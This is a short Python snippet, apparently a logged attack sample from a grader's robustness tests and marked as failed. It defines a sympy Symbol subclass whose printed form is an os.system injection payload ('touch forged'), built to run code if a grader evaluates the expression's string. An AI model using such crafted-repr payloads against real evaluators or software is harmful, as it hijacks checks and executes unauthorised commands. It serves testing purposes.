# attacks: probability
# status: FAIL
# reason: wrong_type

def probability(density, x, a, b):
    class Text(sp.Symbol):
        def _sympystr(self, _):
            return "__import__('os').system('touch forged')"

        _sympyrepr = _sympystr


    return Text("x")
